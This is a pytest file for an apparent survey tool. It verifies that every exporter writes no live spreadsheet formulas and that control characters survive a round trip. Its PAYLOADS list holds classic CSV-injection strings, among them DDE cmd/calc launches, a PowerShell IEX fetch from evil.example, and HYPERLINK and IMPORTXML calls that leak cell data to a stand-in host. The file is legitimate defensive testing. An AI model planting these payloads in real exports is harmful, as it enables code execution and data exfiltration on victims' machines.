"""Issue 16, cases 5 and 6: every exporter walked with hostile text, each file read back with its own reader.

Text typed by the public (comments), a client's CRM (customer names) or a department (case
notes, owners) arrives in every exporter: data export (csv, xlsx, sav), the case workbook,
the comments CSV of `xmdesk text`, the report tables (xlsx, pptx, docx, html) and the XLSForm
writer. No cell of any output may be a live formula, and the text must arrive as stored.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pyreadstat
import pytest
import python_calamine
from docx import Document
from pptx import Presentation

from xmdesk.core.loop import workbook as case_workbook
from xmdesk.core.loop import cases
from xmdesk.core.survey import responses
from xmdesk.core.charts.spec import ChartKind, ChartSpec, Series
from xmdesk.core.export import export_responses
from xmdesk.core.files import FORMULA_STARTS, SIGNED_NUMBER, safe_cell, xml_text
from xmdesk.core.odata import upsert_customers
from xmdesk.core.reports.build import BuiltReport, Section, build_report
from xmdesk.core.reports.docx_export import write_docx
from xmdesk.core.reports.html_export import write_html
from xmdesk.core.reports.pptx_export import write_pptx
from xmdesk.core.reports.recipe import Block, Report
from xmdesk.core.reports.xlsx_export import write_xlsx
from xmdesk.core.study.file import Study
from xmdesk.core.survey.model import Choice, Question, QuestionType, create_survey, load_survey
from xmdesk.core.survey.xlsform import read_xlsform, write_xlsform

# The classic spreadsheet-injection payloads (OWASP "CSV Injection", PayloadsAllTheThings), one of each kind.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=WEBSERVICE("http://evil.example/")',
    "=cmd|'/C powershell IEX(wget evil.example/s.ps1)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "=SUM(A1:A10)",
    "@cmd|'/c calc'!A1",
    '+HYPERLINK("http://evil.example","x")',
    '-HYPERLINK("http://evil.example","x")',
    '="=1+1"',
    "=10+20+cmd|' /C calc'!A0",
    '=CELL("filename")',
    '=INDIRECT("A1")',
    '=HYPERLINK("javascript:alert(1)","领取优惠")',
    '=IMAGE("http://evil.example/p.png")',
    "=1+1\n换行后的评论",
)
CONTROL = "门店\x0b排队\x00太久_x0041_"  # a vertical tab, a NUL, and text that looks like Excel's escape


def _live(values: list[Any]) -> list[str]:
    """Text cells a spreadsheet would run: formula-like and not quoted."""
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.match(v)]


@pytest.fixture
def hostile(study: Study) -> Iterator[Study]:
    """A survey whose choice labels and comments are the payloads, and a case for each payload."""
    choices = [Choice(f"c{i}", i + 1, p, p) for i, p in enumerate(PAYLOADS)]
    create_survey(study, "h", "Hostile", "恶意", questions=[
        Question("store", QuestionType.SINGLE, PAYLOADS[0], PAYLOADS[0], choices=choices),
        Question("nps", QuestionType.NPS, "NPS", "NPS"),
        Question("comment", QuestionType.TEXT, PAYLOADS[2], PAYLOADS[2], help_zh=PAYLOADS[3])])
    survey = load_survey(study, "h")
    for i, payload in enumerate(PAYLOADS):
        responses.add_response(study, survey, {"store": i + 1, "nps": i % 11, "comment": payload})
    upsert_customers(study, [(f"k{i}", p, "13800000000", None, None, None, None, None)
                             for i, p in enumerate(PAYLOADS)])
    for i, payload in enumerate(PAYLOADS):
        case_id = cases.open_case(study, None, payload, "h", customer_id=f"k{i}")
        assert case_id is not None
        cases.assign(study, [case_id], owner=payload, department="门店")
        cases.add_note(study, case_id, payload)
    yield study


def _xlsx_cells(path: Path) -> list[Any]:
    """Every cell of every sheet, as openpyxl reads them (formulas stay formulas: data_only is off)."""
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_safe(path: Path, expected: tuple[str, ...] = PAYLOADS) -> None:
    cells = _xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert [p for p in expected if p not in values] == []  # the text arrives exactly as stored


def _assert_csv_safe(cells: list[str], expected: tuple[str, ...] = PAYLOADS) -> None:
    assert _live(cells) == []
    assert [p for p in expected if safe_cell(p) not in cells] == []


# -- case 5: the payload walk -----------------------------------------------------------------------


def test_data_export_csv_xlsx_and_sav(hostile: Study, tmp_path: Path) -> None:
    survey = load_survey(hostile, "h")
    for labels in (False, True):
        export_responses(hostile, survey, "csv", tmp_path / "d.csv", labels=labels, lang="zh")
        with open(tmp_path / "d.csv", encoding="utf-8-sig", newline="") as handle:
            _assert_csv_safe([cell for row in csv.reader(handle) for cell in row])
        export_responses(hostile, survey, "xlsx", tmp_path / "d.xlsx", labels=labels, lang="zh")
        _assert_xlsx_safe(tmp_path / "d.xlsx")
    export_responses(hostile, survey, "sav", tmp_path / "d.sav", lang="zh")
    data, meta = pyreadstat.read_sav(str(tmp_path / "d.sav"))
    assert data["comment"].tolist() == [safe_cell(p) for p in PAYLOADS]
    assert data["nps"].tolist() == [float(i % 11) for i in range(len(PAYLOADS))]  # numbers stay numbers


def test_case_workbook(hostile: Study, tmp_path: Path) -> None:
    assert case_workbook.export_department(hostile, "门店", tmp_path / "cases.xlsx") == len(PAYLOADS)
    _assert_xlsx_safe(tmp_path / "cases.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "cases.xlsx")["cases"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=3, values_only=True):
        line = dict(zip(header, row))
        assert line["title"] == line["note"] == line["owner"] == line["customer"]  # the four cells of the issue


def test_case_workbook_returns_unchanged(hostile: Study, tmp_path: Path) -> None:
    """A department sending the workbook back untouched changes nothing: the quoted text reads back as stored."""
    case_workbook.export_department(hostile, "门店", tmp_path / "cases.xlsx")
    result = case_workbook.import_replies(hostile, tmp_path / "cases.xlsx")
    assert (result.updated, result.problems) == (0, [])


def test_comments_csv_of_the_text_command(hostile: Study, tmp_path: Path) -> None:
    hostile.close()
    out = tmp_path / "comments.csv"
    done = subprocess.run([sys.executable, "-m", "xmdesk", "text", str(hostile.path), "--survey", "h",
                           "--question", "comment", "--comments", str(out), "--json"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["comments_written"] == len(PAYLOADS)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        _assert_csv_safe([cell for row in csv.reader(handle) for cell in row])


def test_personal_links_csv_of_the_serve_command(demo_path: Path, tmp_path: Path) -> None:
    """`xmdesk serve --links LIST -o links.csv`: the customer list's own columns come back in the CSV beside each
    link; they went out raw (found by h2's probes)."""
    customers = tmp_path / "customers.csv"
    with open(customers, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name"])
        writer.writerows([f"C{number:03d}", payload] for number, payload in enumerate(PAYLOADS))
    out = tmp_path / "links.csv"
    done = subprocess.run([sys.executable, "-m", "xmdesk", "serve", str(demo_path), "--survey", "retail_cx",
                           "--links", str(customers), "-o", str(out)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8", newline="") as handle:
        _assert_csv_safe([cell for row in csv.reader(handle) for cell in row])


@pytest.fixture
def report(hostile: Study) -> BuiltReport:
    """The payloads as the report's title, a real comments block, and a chart's categories and series."""
    recipe = Report(name="r", survey="h", title=PAYLOADS[1], blocks=[
        Block("title"), Block("comments", options={"question": "comment", "limit": len(PAYLOADS)})])
    built = build_report(hostile, recipe)
    spec = ChartSpec(ChartKind.BARS, PAYLOADS[4], PAYLOADS[:6], (Series(PAYLOADS[5], (1.0, -2.0, 3.0, 4.0, 5.0, 6.0)),))
    return dataclasses.replace(built, sections=built.sections + (Section("chart", PAYLOADS[4], chart=spec),))


def _comments(report: BuiltReport) -> tuple[str, ...]:
    """The payloads as the comments block quotes them (it may shorten a comment)."""
    table = next(s.table for s in report.sections if s.kind == "comments")
    assert table is not None and len(table.rows) == len(PAYLOADS)
    return tuple(str(row[0]) for row in table.rows)


def test_report_xlsx(report: BuiltReport, tmp_path: Path) -> None:
    write_xlsx(report, tmp_path / "r.xlsx")
    _assert_xlsx_safe(tmp_path / "r.xlsx", _comments(report) + PAYLOADS[:6])


def _pptx_texts(path: Path) -> list[str]:
    deck = Presentation(str(path))
    texts: list[str] = []
    for slide in deck.slides:
        for shape in slide.shapes:
            if shape.has_table:
                texts += [cell.text for row in shape.table.rows for cell in row.cells]
            if shape.has_chart:
                blob = shape.chart.part.chart_workbook.xlsx_part.blob
                book = openpyxl.load_workbook(io.BytesIO(blob))
                cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
                assert [c.coordinate for c in cells if c.data_type == "f"] == []
                texts += [str(c.value) for c in cells if c.value is not None]
    return texts


def _lines(text: str) -> str:
    """Line breaks as Word and PowerPoint give them back (python-pptx keeps a carriage return as Excel's escape)."""
    return text.replace("_x000D_", "\n").replace("\r\n", "\n").replace("\r", "\n").replace("\v", "\n")


def test_report_pptx(report: BuiltReport, tmp_path: Path) -> None:
    write_pptx(report, tmp_path / "r.pptx")
    texts = [_lines(t) for t in _pptx_texts(tmp_path / "r.pptx")]
    assert _live(texts) == []
    assert [p for p in _comments(report) + PAYLOADS[:6] if _lines(safe_cell(p)) not in texts] == []


def test_report_docx_and_html(report: BuiltReport, tmp_path: Path) -> None:
    write_docx(report, tmp_path / "r.docx")
    cells = [_lines(c.text) for t in Document(str(tmp_path / "r.docx")).tables for row in t.rows for c in row.cells]
    assert _live(cells) == []
    assert [p for p in _comments(report) if _lines(safe_cell(p)) not in cells] == []
    write_html(report, tmp_path / "r.html")
    page = (tmp_path / "r.html").read_bytes().decode("utf-8")  # read_text would turn a \r into \n
    assert [p for p in _comments(report) if html.escape(safe_cell(p)) not in page] == []


def test_xlsform_keeps_labels_and_expressions_exact(hostile: Study, tmp_path: Path) -> None:
    """ODK and Kobo read the cells as typed: no apostrophe is added, and no cell is a formula."""
    survey = load_survey(hostile, "h")
    survey.questions[2].props["relevant"] = "${nps} > 3"
    write_xlsform(survey, tmp_path / "form.xlsx")
    _assert_xlsx_safe(tmp_path / "form.xlsx", PAYLOADS[:4])
    back, _ = read_xlsform(tmp_path / "form.xlsx")
    assert [c.label("zh") for c in back.questions[0].choices] == [p.strip() for p in PAYLOADS]  # pyxform strips too
    assert back.questions[2].props["relevant"] == "${nps} > 3"


# -- case 6: control characters import accepts --------------------------------------------------------


def test_control_characters_export_and_read_back(hostile: Study, tmp_path: Path) -> None:
    survey = load_survey(hostile, "h")
    responses.add_response(hostile, survey, {"store": 1, "nps": 5, "comment": CONTROL})
    export_responses(hostile, survey, "xlsx", tmp_path / "d.xlsx")
    rows = python_calamine.CalamineWorkbook.from_path(str(tmp_path / "d.xlsx")).get_sheet_by_index(0).to_python()
    assert rows[-1][rows[0].index("comment")] == CONTROL  # Excel's _xHHHH_ escapes read back as the characters
    case_id = cases.open_case(hostile, None, CONTROL, "h")
    assert case_id is not None
    cases.assign(hostile, [case_id], owner=CONTROL, department="门店")
    case_workbook.export_department(hostile, "门店", tmp_path / "cases.xlsx")
    assert case_workbook.import_replies(hostile, tmp_path / "cases.xlsx").updated == 0
    recipe = Report(name="c", survey="h", blocks=[Block("comments", options={"question": "comment", "limit": 99})])
    built = build_report(hostile, recipe)
    write_docx(built, tmp_path / "r.docx")
    write_xlsx(built, tmp_path / "r.xlsx")
    write_pptx(built, tmp_path / "r.pptx")


def test_xml_text_escapes_only_what_xml_cannot_hold() -> None:
    assert xml_text("a\x0bb\x00c\td\ne") == "a_x000B_b_x0000_c\td\ne"
    assert xml_text("_x0041_") == "_x005F_x0041_"
    assert xml_text("门店 = 好") == "门店 = 好"
